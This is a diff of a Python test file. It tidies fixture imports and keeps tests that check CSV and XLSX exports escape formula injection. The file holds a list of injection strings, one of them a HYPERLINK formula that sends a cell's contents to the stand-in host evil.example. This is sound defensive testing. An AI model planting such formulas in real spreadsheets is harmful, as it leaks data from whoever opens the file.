@@ -17,10 +17,9 @@ from desmigratif.exports import csv_write, escape_formula, xlsx_workbook
 from enterprises.models import Category
 from households.imports.errors import error_file_csv, error_file_xlsx
 from households.models import Job, PlacementAgency
-from tests.dashboards.conftest import code_lists, programme  # noqa: F401 - fixtures
 from tests.households.imports import check, excel_csv
 
-pytestmark = pytest.mark.django_db
+pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("code_lists")]
 
 LIVE = ['=HYPERLINK("http://evil.example/?"&A1,"Klik")', "+62812", "-1+1", "@SUM(A1)", "\t=1", "＝1+1"]  # noqa: RUF001
 
@@ -36,7 +35,7 @@ def test_every_formula_start_is_made_inert(text):
     assert sheet["B2"].value == 5 and sheet["B2"].data_type == "n"
 
 
-def test_a_dashboard_table_escapes_a_category_named_as_a_formula(client, programme, analyst):  # noqa: F811
+def test_a_dashboard_table_escapes_a_category_named_as_a_formula(client, programme, analyst):
     Category.objects.filter(code="food").update(name=LIVE[0])  # as stored before names were checked
     figures_refresh()
     client.force_login(analyst)
